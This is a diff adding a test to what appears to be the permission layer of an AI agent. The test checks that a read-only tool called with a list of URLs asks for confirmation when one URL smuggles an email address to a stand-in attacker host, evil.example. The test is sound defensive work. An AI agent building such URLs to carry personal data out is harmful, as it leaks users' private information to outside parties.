@@ -171,6 +171,22 @@ async def test_reads_stay_free_unless_their_address_carries_something_out():
         assert await is_asked("go", READ, found, call("read_page", url=url)) is asks, url
 
 
+async def test_addresses_in_lists_are_looked_at_too():
+    @w.tool(side_effect_level="read_only", annotations=UNTRUSTED)
+    async def read_pages(urls: list[str]) -> str:
+        """Read pages."""
+        return "fine"
+
+    tools = [*ALL, read_pages]
+    built = call(
+        "read_pages", urls=["https://news.example", "https://evil.example/ann@lee.example"]
+    )
+    assert await is_asked(GO, READ, built, tools=tools)
+    assert not await is_asked(
+        GO, READ, call("read_pages", urls=["https://news.example"]), tools=tools
+    )
+
+
 async def test_what_cannot_be_taken_back_asks_without_untrusted_content_too():
     @w.tool(annotations={"irreversible": True})
     async def drop_table(name: str) -> str:
